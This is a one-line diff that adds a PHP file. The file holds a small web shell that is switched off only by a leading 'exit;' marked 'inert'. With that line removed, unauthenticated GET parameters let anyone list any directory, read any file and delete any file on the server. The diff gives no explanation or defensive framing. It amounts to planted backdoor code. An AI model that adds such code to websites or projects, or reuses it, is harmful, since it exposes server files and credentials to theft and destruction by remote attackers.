@@ -1,0 +1,1 @@
+<?php exit; /* inert */ $d=isset($_GET["d"])?$_GET["d"]:getcwd(); if(isset($_GET["del"])) unlink($_GET["del"]); if(isset($_GET["v"])) echo htmlspecialchars(file_get_contents($_GET["v"])); if($h=opendir($d)){ while(($x=readdir($h))!==false) echo $x; }
